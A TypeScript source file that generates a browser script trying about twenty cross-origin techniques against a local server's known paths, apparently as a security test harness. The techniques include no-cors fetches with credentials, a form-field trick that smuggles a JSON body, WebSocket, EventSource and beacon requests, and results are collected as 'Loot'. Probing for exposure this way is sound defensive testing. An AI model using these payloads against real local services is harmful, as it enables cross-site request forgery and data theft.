/** The result of an attack for the page: something that it may read, or nothing and why. */
export interface Loot {
  readonly how: string;
  readonly read: string | undefined;
}

/**
 * The script of a page that tries all that a page can do to get at `base`, whose ports and paths it knows. Evaluates to a
 * promise of `Loot[]`. It is text, because it runs in the browser, where there is nothing of ours.
 */
export function attackScript(base: string, paths: readonly string[], tag: string): string {
  return `(async () => {
    const base = ${JSON.stringify(base)};
    const paths = ${JSON.stringify(paths)};
    const tag = ${JSON.stringify(tag)};
    ${attackFunctions}
    const attempts = paths.flatMap((path) =>
      Object.entries(ways).map(async ([name, way]) => {
        const url = base + path + '?' + tag + '=' + name;
        const read = await Promise.race([way(url).catch(() => undefined), given(30_000)]);
        return { how: name + ' ' + path, read: read === undefined || read === '' ? undefined : String(read) };
      }),
    );
    return Promise.all(attempts);
  })()`;
}

const attackFunctions = `
    const json = JSON.stringify({ model: 'claude-simulated-1', max_tokens: 1, messages: [{ role: 'user', content: 'hi' }] });
    const given = (ms) => new Promise((resolve) => setTimeout(() => resolve(undefined), ms));
    const fetched = (url, options) => fetch(url, options).then(async (answer) => {
      if (answer.type === 'opaque' || answer.type === 'opaqueredirect') return undefined;
      return answer.status + ' ' + (await answer.text());
    });
    const element = (name, url, attribute) => new Promise((resolve) => {
      const made = document.createElement(name);
      made.onload = () => resolve(name === 'img' ? made.naturalWidth || undefined : Object.keys(window.stolen ?? {}).join());
      made.onerror = () => resolve(undefined);
      made[attribute] = url;
      document.documentElement.append(made);
    });
    const framed = (submit) => new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = 'frame-' + Math.random();
      document.documentElement.append(frame);
      // The load of its first, empty document is over when it has been appended.
      frame.onload = () => {
        try { resolve(frame.contentDocument?.body?.innerText); } catch { resolve(undefined); }
      };
      submit(frame);
    });
    const posted = (url, enctype) => framed((frame) => {
      const form = document.createElement('form');
      Object.assign(form, { method: 'POST', action: url, target: frame.name, enctype });
      const field = document.createElement('input');
      Object.assign(field, { name: json.slice(0, -1) + ', "x": "', value: '"}' });
      form.append(field);
      document.documentElement.append(form);
      form.submit();
    });
    const opened = (url) => new Promise((resolve) => {
      const socket = new WebSocket(url.replace(/^http/, 'ws'));
      socket.onopen = () => socket.send(json);
      socket.onmessage = ({ data }) => resolve(data);
      socket.onclose = () => resolve(undefined);
    });
    const streamed = (url) => new Promise((resolve) => {
      const source = new EventSource(url);
      const end = (text) => { source.close(); resolve(text); };
      for (const type of ['message', 'snapshot', 'change', 'log']) source.addEventListener(type, ({ data }) => end(data));
      source.onerror = () => end(undefined);
    });
    const xhr = (method, url, headers, body) => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open(method, url);
      for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
      request.onloadend = () => resolve(request.status === 0 ? undefined : request.status + ' ' + request.responseText);
      request.send(body);
    });
    const jsonHeaders = { 'content-type': 'application/json', 'anthropic-version': '2023-06-01' };
    const ways = {
      get: (url) => fetched(url),
      getNoCors: (url) => fetched(url, { mode: 'no-cors', credentials: 'include' }),
      getNoReferrer: (url) => fetched(url, { mode: 'no-cors', referrerPolicy: 'no-referrer' }),
      postJson: (url) => fetched(url, { method: 'POST', headers: jsonHeaders, body: json }),
      postText: (url) => fetched(url, { method: 'POST', body: json }),
      postNoCors: (url) => fetched(url, { method: 'POST', mode: 'no-cors', body: json }),
      postBlobNoCors: (url) => fetched(url, { method: 'POST', mode: 'no-cors', body: new Blob([json]) }),
      putJson: (url) => fetched(url, { method: 'PUT', headers: jsonHeaders, body: json }),
      keepalive: (url) => fetched(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: json }),
      xhrGet: (url) => xhr('GET', url, {}),
      xhrPost: (url) => xhr('POST', url, jsonHeaders, json),
      xhrForm: (url) => xhr('POST', url, { 'content-type': 'application/x-www-form-urlencoded' }, json),
      formText: (url) => posted(url, 'text/plain'),
      formUrl: (url) => posted(url, 'application/x-www-form-urlencoded'),
      formData: (url) => posted(url, 'multipart/form-data'),
      iframe: (url) => framed((frame) => { frame.src = url; }),
      script: (url) => element('script', url, 'src'),
      image: (url) => element('img', url, 'src'),
      webSocket: opened,
      eventSource: streamed,
      beacon: async (url) => { navigator.sendBeacon(url, json); return undefined; },
      beaconJson: async (url) => {
        navigator.sendBeacon(url, new Blob([json], { type: 'application/json' }));
        return undefined;
      },
    };`;
